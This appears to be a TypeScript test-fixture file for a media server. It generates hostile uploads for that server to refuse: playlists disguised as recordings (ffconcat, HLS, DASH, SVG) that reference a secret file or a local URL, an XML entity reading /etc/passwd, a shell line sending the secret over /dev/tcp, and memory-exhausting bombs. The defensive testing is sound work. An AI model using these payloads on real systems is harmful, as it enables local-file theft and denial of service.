// Hostile and broken files: text that names other files but is called like a recording, small files that need much memory or
// time (bombs), and real recordings that are cut off or have flipped bits.
import { readFile, writeFile } from "node:fs/promises";
import path from "node:path";
import { chord, pictures, x264, type Clips } from "#server/testing/clips.ts";

export interface HostileFile {
  name: string;
  /** Text and bombs must be refused; a damaged file may still be played. */
  mustBeRefused: boolean;
  /** Returns its path. */
  make(clips: Clips): Promise<string>;
}

/** A file and an address that a program would open if it followed the text. */
interface Targets {
  secret: string;
  port: number;
}

export function listHostileFiles(targets: Targets, damaged: Damage): HostileFile[] {
  return [...disguises(texts(targets)), ...bombs(), ...besides(), ...damage(damaged)];
}

async function write({ folder }: Clips, name: string, content: Buffer): Promise<string> {
  const file = path.join(folder, name);
  await writeFile(file, content);
  return file;
}

function texts({ secret, port }: Targets): Record<string, string> {
  const url = `http://127.0.0.1:${port}/x.mp4`;
  return {
    "concat": `ffconcat version 1.0\nfile ${secret}\nfile ${url}\n`,
    "concat-option": `ffconcat version 1.0\nfile /in/0\noption protocol_whitelist file,http,tcp\nfile ${url}\n`,
    "hls": `#EXTM3U\n#EXT-X-TARGETDURATION:1\n#EXTINF:1,\nfile://${secret}\n#EXTINF:1,\n${url}\n#EXT-X-ENDLIST\n`,
    "hls-key": `#EXTM3U\n#EXT-X-TARGETDURATION:1\n#EXT-X-KEY:METHOD=AES-128,URI="${url}"\n#EXTINF:1,\nconcat:${secret}|${secret}\n`,
    "hls-master": `#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\n${url}\n`,
    "dash": `<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" mediaPresentationDuration="PT1S"><Period><AdaptationSet mimeType="video/mp4"><Representation id="1" bandwidth="1"><BaseURL>file://${secret}</BaseURL></Representation></AdaptationSet></Period></MPD>`,
    "dash-entity": `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><MPD>&e;</MPD>`,
    "sdp": `v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\nm=video ${port} RTP/AVP 96\na=rtpmap:96 H264/90000\n`,
    "svg": `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="${url}"/><text>&#x41;</text></svg>`,
    "imf": `<?xml version="1.0"?><CompositionPlaylist xmlns="http://www.smpte-ra.org/schemas/2067-3/2016"><Id>x</Id></CompositionPlaylist>`,
    "subtitle": `1\n00:00:00,000 --> 00:00:01,000\nfile://${secret}\n`,
    "metadata": `;FFMETADATA1\ntitle=x\n[CHAPTER]\nSTART=0\nEND=1\n`,
    "shell": `#!/bin/sh\ncat ${secret} > /dev/tcp/127.0.0.1/${port}\n`,
    "bluray": `[playlist]\nFile1=${url}\nNumberOfEntries=1\n`,
  }; // prettier-ignore
}

/** The text alone, and after a header that looks like a recording, so that the check of the first bytes accepts it. */
function disguises(all: Record<string, string>): HostileFile[] {
  const box = (kind: string, text: Buffer) => {
    const head = Buffer.from(`\0\0\0\0${kind}`, "latin1");
    head.writeUInt32BE(text.length + 8);
    return Buffer.concat([head, text]);
  };
  const wrap: Record<string, (text: Buffer) => Buffer> = {
    mp4: (text) => text,
    "marked.mkv": (text) => Buffer.concat([Buffer.from("\ufeff\n\n"), text]),
    "boxed.mp4": (text) => box("free", text),
    "referring.mov": (text) => Buffer.concat([box("ftyp", Buffer.from("qt  \0\0\0\0qt  ", "latin1")), box("moov", box("rmra", box("rmda", box("rdrf", Buffer.concat([Buffer.from("\0\0\0\0url \0\0\0\x7f", "latin1"), text]))))) ]), // prettier-ignore
    "tagged.mp3": (text) => Buffer.concat([Buffer.from("ID3\x04\0\0\0\0\0\0", "latin1"), text]),
    "riff.avi": (text) => Buffer.concat([Buffer.from("RIFF\xff\xff\xff\x7fAVI LIST", "latin1"), text]),
    "ebml.mkv": (text) => Buffer.concat([Buffer.from([0x1a, 0x45, 0xdf, 0xa3, 0x80]), text]),
    "flv.flv": (text) => Buffer.concat([Buffer.from("FLV\x01\x05\0\0\0\x09\0\0\0\0", "latin1"), text]),
    "ogg.ogg": (text) => Buffer.concat([Buffer.from("OggS", "latin1"), text]),
    "flac.flac": (text) => Buffer.concat([Buffer.from("fLaC", "latin1"), text]),
  };
  return Object.entries(wrap).flatMap(([ending, hide]) =>
    Object.entries(all).map(([what, text]) => {
      const name = `${what}-${ending}`;
      return { name, mustBeRefused: true, make: (clips) => write(clips, name, hide(Buffer.from(text))) };
    }),
  );
}

/** Small files that need much memory or time. */
function bombs(): HostileFile[] {
  const manyStreams = Array.from({ length: 100 }, () => "-map 0").join(" ");
  const lines: Record<string, string> = {
    "codec.mkv": `${pictures("64x64")} -c:v magicyuv`,
    "raw.avi": `${pictures("64x64")} -c:v rawvideo`,
    "gap.mkv": `${pictures("64x64", 10, 1)} -vf setpts=PTS+gt(N\\,5)*200000/TB -fps_mode passthrough ${x264}`,
    "streams.mkv": `-f lavfi -i aevalsrc=0:s=8000:d=0.2 ${manyStreams} -c:a pcm_s16le`,
    "pixels.mp4": "-f lavfi -i color=s=8192x8192:d=0.04:r=25 -c:v libx264 -preset ultrafast",
    "pixels.mkv": "-f lavfi -i color=s=16000x16000:d=0.04:r=25 -c:v mjpeg -q:v 31",
    "png.mkv": "-f lavfi -i color=s=12000x12000:d=0.04:r=25 -c:v png",
  };
  return Object.entries(lines).map(([name, line]) => ({
    name,
    mustBeRefused: true,
    make: (clips) => clips.make(name, line),
  }));
}

/** Covers and captions that need much memory or time, in recordings whose video and audio are fine. */
function besides(): HostileFile[] {
  const cover = (size: string, codec: string) =>
    `-f lavfi -i color=s=${size}:d=0.04:r=25 ${chord()} -map 1 -map 0 -c:v ${codec} -frames:v 1 -disposition:v attached_pic`;
  const lines: Record<string, string> = {
    "thin-cover.flac": `${cover("16x30000", "png")} -c:a flac`,
    "wide-cover.flac": `${cover("30000x16", "png")} -c:a flac`,
    "large-cover.flac": `${cover("6000x6000", "png")} -c:a flac`,
    "huge-cover.flac": `${cover("9000x9000", "png")} -c:a flac`,
    "moving-cover.mp3": `${cover("2000x2000", "gif")} -c:a libmp3lame`,
    "tiff-cover.mp3": `${cover("2000x2000", "tiff")} -c:a libmp3lame`,
    "dashes.mkv": `${pictures("160x90")} ${chord()} -i dashes.srt -map 0 -map 1 -map 2 ${x264} -c:a aac`,
    "jpeg-cover.m4a": `${cover("6000x6000", "mjpeg -q:v 31")} -c:a aac`,
  };
  return Object.entries(lines).map(([name, line]) => ({
    name,
    mustBeRefused: false,
    async make(clips) {
      await write(clips, "dashes.srt", Buffer.from(`1\n00:00:00,500 --> 00:00:01,500\n${"-".repeat(300_000)}\n`));
      return clips.make(name, line);
    },
  }));
}

interface Damage {
  /** How many of each: cut off somewhere, and with flipped bits. */
  cuts: number;
  flips: number;
  random: () => number;
}

function damage({ cuts, flips, random }: Damage): HostileFile[] {
  const lines: Record<string, string> = {
    "flac": `${chord()} -c:a flac`,
    "mp3": `${chord()} -c:a libmp3lame`,
    "ogg": `${chord()} -c:a libvorbis`,
    "wav": `${chord()} -c:a pcm_s16le`,
    "mp4": `${pictures("160x90")} ${chord()} ${x264} -c:a aac`,
    "mkv": `${pictures("160x90")} ${chord()} ${x264} -c:a aac`,
    "sung.mkv": `${pictures("160x90")} ${chord()} -i words.srt -map 0 -map 1 -map 2 ${x264} -c:a aac`,
    "sung.mp4": `${pictures("160x90")} ${chord()} -i words.srt -map 0 -map 1 -map 2 ${x264} -c:a aac -c:s mov_text`,
    "cover.flac": `-f lavfi -i testsrc2=s=64x64:d=0.04 ${chord()} -map 1 -map 0 -c:v png -frames:v 1 -disposition:v attached_pic -c:a flac`,
    "ts": `${pictures("160x90")} ${chord()} ${x264} -c:a aac`,
    "flv": `${pictures("160x90")} ${chord()} ${x264} -c:a aac`,
    "avi": `${pictures("160x90")} ${chord()} -c:v mpeg4 -c:a libmp3lame`,
    "webm": `${pictures("160x90")} ${chord()} -c:v libvpx -deadline realtime -cpu-used 8 -c:a libopus`,
    "ffv1.mkv": `${pictures("160x90", 25, 1)} ${chord(1)} -c:v ffv1 -c:a wavpack`,
    "dnxhr.mov": `${pictures("256x120", 25, 1)} ${chord(1)} -c:v dnxhd -profile:v dnxhr_sq -pix_fmt yuv422p -c:a pcm_s24be`,
    "cineform.mov": `${pictures("160x96", 25, 1)} ${chord(1)} -c:v cfhd -pix_fmt yuv422p10le -c:a pcm_f64le`,
    "dv.avi": `${pictures("720x576", 25, 0.4)} -c:v dvvideo -pix_fmt yuv420p`,
    "lossless.avi": `${pictures("160x90", 25, 1)} ${chord(1)} -c:v utvideo -pix_fmt yuv422p -c:a adpcm_ms`,
    "huffman.avi": `${pictures("160x90", 25, 1)} ${chord(1)} -c:v huffyuv -pix_fmt yuv422p -c:a adpcm_ima_wav`,
    "theora.ogg": `${pictures("160x90", 25, 1)} -c:v libtheora`,
    "truehd.mkv": `${chord(1)} -ac 2 -strict -2 -c:a truehd`,
    "hdr.mkv": `${pictures("160x90", 25, 1)} -c:v libx265 -preset ultrafast -pix_fmt yuv420p10le -x265-params log-level=error -color_trc smpte2084`,
  }; // prettier-ignore
  return Object.entries(lines).flatMap(([ending, line]) => {
    let whole: Promise<Buffer> | undefined;
    const spoilt = (name: string, spoil: (content: Buffer) => Buffer): HostileFile => ({
      name,
      mustBeRefused: false,
      async make(clips) {
        whole ??= makeWhole(clips, `whole.${ending}`, line);
        return write(clips, name, spoil(await whole));
      },
    });
    return [
      ...Array.from({ length: cuts }, (_, n) =>
        spoilt(`cut-${n}.${ending}`, (content) => content.subarray(0, Math.floor(content.length * random()))),
      ),
      // half of them where the containers keep their tables
      ...Array.from({ length: flips }, (_, n) =>
        spoilt(`turned-${n}.${ending}`, (content) => turnBits(content, n % 2 === 0 ? 2000 : content.length, random)),
      ),
    ];
  });
}

async function makeWhole(clips: Clips, name: string, line: string): Promise<Buffer> {
  await write(clips, "words.srt", Buffer.from("1\n00:00:00,500 --> 00:00:01,500\nSing along\n"));
  return readFile(await clips.make(name, line));
}

function turnBits(content: Buffer, reach: number, random: () => number): Buffer {
  const turned = Buffer.from(content);
  for (let turns = 0; turns < 20; turns += 1) {
    const at = Math.floor(random() * Math.min(reach, content.length));
    turned[at] = (turned[at] ?? 0) ^ (1 << Math.floor(random() * 8));
  }
  return turned;
}
